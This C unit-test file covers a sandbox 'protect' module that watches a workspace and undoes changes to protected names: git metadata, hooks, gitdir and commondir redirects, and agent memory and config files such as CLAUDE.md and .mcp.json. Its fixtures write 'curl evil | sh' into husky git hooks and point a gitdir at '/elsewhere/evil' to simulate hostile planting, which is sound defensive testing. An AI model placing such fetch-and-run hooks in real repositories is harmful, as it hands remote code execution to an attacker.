/*
 * Unit tests of protect: the table of protected names, the watch (a
 * created name caught, one moved in with a bare repository inside, one
 * made again after the user removed it, a lost event queue), the pause of
 * trusted writers, and the cost of the watch on a tree of 20,000 files.
 */
#include "autoconf.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "buf.h"
#include "ev.h"
#include "jail/protect.h"
#include "t.h"
#include "t_tree.h"

static struct ev_loop *loop;
static char qdir[PATH_MAX + 32];
static int told;

static void
notify(void *arg, const char *s)
{
	(void)arg;
	(void)s;
	told++;
}

static bool
exists(const char *rel)
{
	struct stat st;
	char *p = t_tree_at("/%s", rel);
	bool yes = lstat(p, &st) == 0;

	free(p);
	return yes;
}

static const char *
get_file(const char *path)
{
	static char data[4096];
	FILE *f = fopen(path, "r");
	size_t n;

	if (f == NULL)
		return NULL;
	n = fread(data, 1, sizeof data - 1, f);
	data[n] = '\0';
	fclose(f);
	return data;
}

static double
ms_since(const struct timespec *t0)
{
	struct timespec t1;

	clock_gettime(CLOCK_MONOTONIC, &t1);
	return (double)(t1.tv_sec - t0->tv_sec) * 1e3 + (double)(t1.tv_nsec - t0->tv_nsec) / 1e6;
}

static struct protect *
fresh(void)
{
	t_tree_init("protect");
	snprintf(qdir, sizeof qdir, "%s.q", root);
	told = 0;
	return protect_new(loop, root, qdir, notify, NULL);
}

static void
done(struct protect *p)
{
	protect_free(p);
	t_tree_remove(root);
	t_tree_remove(qdir);
}

T_TEST(table)
{
	T_OK(protect_kind(".git") != NULL);
	T_OK(protect_kind("a/b/.git") != NULL);
	T_OK(protect_kind("CLAUDE.md") != NULL);
	T_OK(protect_kind("CLAUDE.local.md") != NULL);
	T_OK(protect_kind(".mcp.json") != NULL);
	T_OK(protect_kind(".claude") != NULL);
	T_OK(protect_kind(".envrc") != NULL);
	T_OK(protect_kind(".vscode") != NULL);
	/* in the root only: a package's own files below are left alone */
	T_OK(protect_kind("node_modules/x/CLAUDE.md") == NULL);
	T_OK(protect_kind("node_modules/x/.vscode") == NULL);
	T_OK(protect_kind(".gitignore") == NULL);
	T_OK(protect_kind("src/git") == NULL);
	T_OK(protect_kind("README.md") == NULL);
}

T_TEST(created_and_existing)
{
	struct protect *p = fresh();
	struct buf out = BUF_INIT(BUF_NOLIMIT);

	put("keep/.git/HEAD", "ref: refs/heads/main\n", 21);
	put("CLAUDE.md", "the user's\n", 11);
	protect_hold(p, false);
	put("a/b/.git/config", "[core]\n", 7);
	put("AGENTS.md", "x\n", 2);
	put("deep/AGENTS.md", "x\n", 2);
	protect_release(p, false);
	T_OK(!exists("a/b/.git"));
	T_OK(!exists("AGENTS.md"));
	T_OK(exists("deep/AGENTS.md"));
	T_OK(exists("keep/.git/HEAD"));
	T_OK(exists("CLAUDE.md"));
	T_EQ_INT(told, 1);
	T_EQ_INT(protect_take(p, &out), 1);
	T_CONTAINS(buf_cstr(&out), "a/b/.git (git metadata");
	T_CONTAINS(buf_cstr(&out), "AGENTS.md (a memory file");
	T_CONTAINS(buf_cstr(&out), "\"sandbox\": false");
	T_EQ_INT(protect_take(p, &out), 0);
	buf_release(&out);
	done(p);
}

T_TEST(moved_in_bare_and_again)
{
	struct protect *p = fresh();
	char *from, *to, *git;

	put("stage/r/HEAD", "ref: refs/heads/main\n", 21);
	t_tree_mkdir("stage/r/objects");
	t_tree_mkdir("stage/r/refs");
	put(".git/HEAD", "ref: refs/heads/main\n", 21);
	protect_hold(p, false);
	protect_release(p, false);
	T_OK(exists(".git/HEAD"));
	T_OK(exists("stage/r/HEAD"));	/* there before: the user's */
	/* the user removes .git between commands; a command makes it again */
	git = t_tree_at("/.git");
	t_tree_remove(git);
	free(git);
	t_tree_mkdir("tree");
	protect_hold(p, false);
	put(".git/config", "[core]\n", 7);
	put("x/HEAD", "ref: refs/heads/main\n", 21);
	t_tree_mkdir("x/objects");
	t_tree_mkdir("x/refs");
	from = t_tree_at("/stage/r");
	to = t_tree_at("/tree/r");
	T_OK(rename(from, to) == 0);	/* a prepared repository moved in: fresh, caught */
	put("tree/r/unrelated", "", 0);
	protect_release(p, false);
	T_OK(!exists(".git"));
	T_OK(!exists("x"));
	T_OK(!exists("tree/r"));
	free(from);
	free(to);
	/* a command moving a folder that holds an existing repository: no plant */
	put("lib/.git/HEAD", "ref: refs/heads/main\n", 21);
	told = 0;
	protect_hold(p, false);
	protect_release(p, false);
	from = t_tree_at("/lib");
	to = t_tree_at("/vendor");
	protect_hold(p, false);
	T_OK(rename(from, to) == 0);
	put("vendor/lib.c", "", 0);
	protect_release(p, false);
	T_OK(exists("vendor/.git/HEAD"));
	T_EQ_INT(told, 0);
	/* in it now: a commondir that would send git to another config */
	protect_hold(p, false);
	put("vendor/.git/commondir", "../../stage\n", 12);
	protect_release(p, false);
	T_OK(!exists("vendor/.git/commondir"));
	T_OK(exists("vendor/.git/HEAD"));
	free(from);
	free(to);
	done(p);
}

/* HEAD, objects/ and refs/ in the root itself; a "gitdir:" file below rewritten in place. */
T_TEST(root_bare_and_gitfile)
{
	struct protect *p = fresh();
	char *f;
	FILE *fp;

	put("sub/.git", "gitdir: ../.git/modules/sub\n", 27);
	put("src/a.c", "int a;\n", 7);
	protect_hold(p, false);
	put("HEAD", "ref: refs/heads/main\n", 21);
	t_tree_mkdir("objects");
	t_tree_mkdir("refs");
	f = t_tree_at("/sub/.git");
	fp = fopen(f, "r+");	/* in place: no creation, no rename */
	T_OK(fp != NULL);
	if (fp != NULL) {
		fputs("gitdir: /elsewhere/evil", fp);
		fclose(fp);
	}
	free(f);
	put("src/a.c", "int b;\n", 7);
	protect_release(p, false);
	T_OK(!exists("HEAD"));
	T_OK(exists("objects") && exists("refs"));
	T_OK(!exists("sub/.git"));
	T_OK(exists("src/a.c"));
	T_EQ_INT(told, 1);
	done(p);
}

/* husky's .husky/ named by the root repository's core.hooksPath: its hooks are guarded. */
T_TEST(hooks_path)
{
	struct protect *p = fresh();
	char *f;
	FILE *fp;

	put(".git/HEAD", "ref: refs/heads/main\n", 21);
	put(".git/config", "[core]\n\tbare = false\n\thooksPath = .husky\n", 41);
	put(".husky/pre-commit", "npm test\n", 9);
	protect_hold(p, false);
	f = t_tree_at("/.husky/pre-commit");
	fp = fopen(f, "w");
	T_OK(fp != NULL);
	if (fp != NULL) {
		fputs("curl evil | sh\n", fp);
		fclose(fp);
	}
	put(".husky/post-checkout", "curl evil | sh\n", 15);
	protect_release(p, false);
	T_EQ_STR(get_file(f), "npm test\n");
	T_OK(!exists(".husky/post-checkout"));
	T_EQ_INT(told, 1);
	/* the user's own edit between commands is the one kept from then on */
	put(".husky/pre-commit", "npm run lint\n", 13);
	protect_hold(p, false);
	put(".husky/post-merge", "x\n", 2);
	protect_release(p, false);
	T_EQ_STR(get_file(f), "npm run lint\n");
	free(f);
	done(p);
}

T_TEST(paused_writer)
{
	struct protect *p = fresh();
	const char *mine[] = { "CLAUDE.md", NULL };

	protect_hold(p, true);
	protect_pause(p);
	put("CLAUDE.md", "by a file tool\n", 15);
	put(".mcp.json", "{}\n", 3);	/* meanwhile, by the background command */
	protect_resume(p, false, mine);
	T_OK(exists("CLAUDE.md"));
	T_OK(!exists(".mcp.json"));
	/* a command the user let run outside, while the background one runs: caught */
	protect_pause(p);
	put(".envrc", "x\n", 2);
	protect_resume(p, true, NULL);
	T_OK(!exists(".envrc"));
	protect_release(p, true);
	T_OK(exists("CLAUDE.md"));
	/* with no background command: the one outside made it, it stays */
	protect_hold(p, false);
	protect_release(p, false);
	protect_pause(p);
	put(".envrc", "x\n", 2);
	protect_resume(p, true, NULL);
	T_OK(exists(".envrc"));
	done(p);
}

/* More events than the kernel queues (max_queued_events): the walk still finds it. */
T_TEST(lost_events)
{
	struct protect *p = fresh();
	char rel[64];
	int i;

	t_tree_mkdir("many");
	protect_hold(p, false);
	for (i = 0; i < 20000; i++) {
		snprintf(rel, sizeof rel, "many/f%d", i);
		put(rel, "", 0);
		if (i == 19990)
			put("many/deep/.git/config", "[core]\n", 7);
	}
	protect_release(p, false);
	T_OK(!exists("many/deep/.git"));
	done(p);
}

/* The cost: a tree of 20,000 files in 2,000 directories, and one command over it. */
T_TEST(cost_20k)
{
	struct protect *p = fresh();
	struct timespec t0;
	char rel[64];
	double first, again, end, warmed;
	int i;

	for (i = 0; i < 20000; i++) {
		snprintf(rel, sizeof rel, "d%d/e%d/f%d.c", i / 200, (i / 10) % 20, i);
		put(rel, "x\n", 2);
	}
	clock_gettime(CLOCK_MONOTONIC, &t0);
	protect_hold(p, false);
	first = ms_since(&t0);
	put("d3/e4/.git/config", "[core]\n", 7);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	protect_release(p, false);
	end = ms_since(&t0);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	protect_hold(p, false);
	protect_release(p, false);
	again = ms_since(&t0);
	T_OK(!exists("d3/e4/.git"));
	T_EQ_INT(protect_watched(p), 1 + 100 + 2000);
	printf("# 20000 files, %zu directories: the first watch %.1f ms, the end of a command "
	    "%.2f ms, a later command's start and end %.2f ms\n", protect_watched(p), first, end,
	    again);
	/* begun in the loop's idle time (at the session's start), the first command waits for nothing */
	protect_free(p);
	p = protect_new(loop, root, qdir, notify, NULL);
	protect_warm(p);
	for (i = 0; i < 100000 && protect_watched(p) < 2101; i++)
		ev_run_once(loop, 0);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	protect_hold(p, false);
	warmed = ms_since(&t0);
	put("d5/e6/.git/HEAD", "x", 1);
	protect_release(p, false);
	T_OK(!exists("d5/e6/.git"));
	printf("# warmed first: the first command's start %.2f ms\n", warmed);
	/* generous bounds for a loaded machine or valgrind: the figures above are the claim */
	T_OK(first < 5000);
	T_OK(again < 1000);
	done(p);
}

int
main(void)
{
	loop = ev_loop_new();
	T_RUN(table);
	T_RUN(created_and_existing);
	T_RUN(moved_in_bare_and_again);
	T_RUN(root_bare_and_gitfile);
	T_RUN(hooks_path);
	T_RUN(paused_writer);
	T_RUN(lost_events);
	T_RUN(cost_20k);
	ev_loop_free(loop);
	return t_done();
}
